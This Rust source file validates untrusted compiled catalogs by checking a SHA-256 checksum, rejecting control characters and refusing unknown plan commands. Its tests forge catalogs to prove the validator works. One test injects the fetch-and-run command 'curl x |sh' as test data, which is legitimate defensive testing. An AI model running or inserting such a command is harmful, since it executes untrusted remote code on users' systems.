//! Compiled catalogs for distribution: the SHA-256 digest of the tables as 64 hexadecimal digits, followed
//! by the tables.

use std::io::{self, Read as _};

use super::builtin::EMBEDDED;
use sky_accel_core::catalog::{Catalog, OpenError, Sdk};
use sky_accel_core::text::is_unprintable;
use sky_accel_files::input::open_regular;

use super::header::SUM_LEN;
use super::sources::{OverlayFile, unreadable};
use crate::code::ErrorCode;
use crate::digest::sha256;
use crate::error::{Error, Result};

/// The maximum size of a compiled catalog in bytes, larger than any allowed overlays compile to.
const MAX_LEN: u64 = 4_000_000_000;
/// Returns the bytes of a compiled catalog.
pub(super) fn to_bytes(catalog: &Catalog<'_>) -> Vec<u8> {
    let tables = catalog.to_bytes();
    let mut bytes = sha256([&tables[..]]).into_bytes();
    bytes.extend(tables);
    bytes
}

/// Reads a compiled catalog, which is untrusted.
pub(super) fn read(file: &OverlayFile) -> Result<Vec<u8>> {
    let failed = |error: io::Error| unreadable(&file.path, &error);
    let opened = open_regular(&file.path).map_err(failed)?;
    let mut bytes = Vec::new();
    opened
        .take(MAX_LEN)
        .read_to_end(&mut bytes)
        .map_err(failed)?;
    match check(&bytes) {
        Ok(()) => Ok(bytes),
        Err(why) => {
            let message = format!("{}: {why}", file.name());
            Err(Error::new(ErrorCode::CatalogInvalid, message))
        }
    }
}

/// The tables in the bytes of a compiled catalog.
pub(super) fn catalog(bytes: &[u8]) -> std::result::Result<Catalog<'_>, OpenError> {
    Catalog::open(bytes.get(SUM_LEN..).unwrap_or_default())
}

/// Checks the properties that the compiler guarantees and readers depend on.
pub(super) fn check(bytes: &[u8]) -> std::result::Result<(), String> {
    let catalog = catalog(bytes).map_err(|error| error.to_string())?;
    let (sum, tables) = bytes.split_at(SUM_LEN);
    if sha256([tables]).as_bytes() != sum {
        return Err("the compiled catalog is damaged: its checksum does not match".to_owned());
    }
    let text = std::str::from_utf8(catalog.pool.bytes()).unwrap_or("\0");
    if text.chars().any(is_unprintable) {
        return Err("the compiled catalog contains control characters".to_owned());
    }
    // Plans run these commands, so an untrusted catalog must not add any.
    let commands = |catalog: &Catalog<'_>, sdk: &Sdk| -> Vec<String> {
        let words =
            [sdk.id, sdk.kubernetes, sdk.list_command].map(|text| catalog.str(text).to_owned());
        let docker = catalog.strings(sdk.docker).map(str::to_owned);
        words.into_iter().chain(docker).collect()
    };
    let known_commands: Vec<_> = EMBEDDED
        .sdks
        .iter()
        .map(|sdk| commands(&EMBEDDED, &sdk))
        .collect();
    let is_known = |sdk: &Sdk| {
        let has_none = sdk.list_command.len == 0 && sdk.docker.len == 0;
        has_none || known_commands.contains(&commands(&catalog, sdk))
    };
    if !catalog.sdks.iter().all(|sdk| is_known(&sdk)) {
        return Err(
            "the compiled catalog has plan commands that this program does not know".to_owned(),
        );
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The embedded catalog with a text replaced and a matching checksum.
    fn forged(text: &str, other: &str) -> Vec<u8> {
        assert_eq!(text.len(), other.len());
        let mut tables = EMBEDDED.to_bytes();
        let text = text.as_bytes();
        let places: Vec<usize> = (0..tables.len())
            .filter(|at| tables[*at..].starts_with(text))
            .collect();
        assert!(!places.is_empty());
        for at in places {
            tables[at..at + text.len()].copy_from_slice(other.as_bytes());
        }
        let mut bytes = sha256([&tables[..]]).into_bytes();
        bytes.extend(tables);
        bytes
    }

    #[test]
    fn rejects_a_forged_catalog_with_a_valid_checksum() {
        assert_eq!(check(&forged("nvidia-smi", "nvidia-smi")), Ok(()));
        let commands = check(&forged("nvidia-smi", "curl x |sh"));
        assert!(
            commands.as_ref().is_err_and(|why| why.contains("commands")),
            "{commands:?}"
        );
        let control = check(&forged("DGX Spark", "DGX\u{1b}Spark"));
        assert!(
            control.as_ref().is_err_and(|why| why.contains("control")),
            "{control:?}"
        );
    }

    #[test]
    fn rejects_a_damaged_catalog() {
        let valid = forged("nvidia-smi", "nvidia-smi");
        for (at, len) in [(0, valid.len()), (valid.len() - 1, valid.len())] {
            let mut bytes = valid[..len].to_vec();
            bytes[at] ^= 1;
            assert!(check(&bytes).is_err(), "{at}");
        }
        for len in [0, 10, SUM_LEN, SUM_LEN + 20, valid.len() - 1] {
            assert!(check(&valid[..len]).is_err(), "{len}");
        }
    }
}
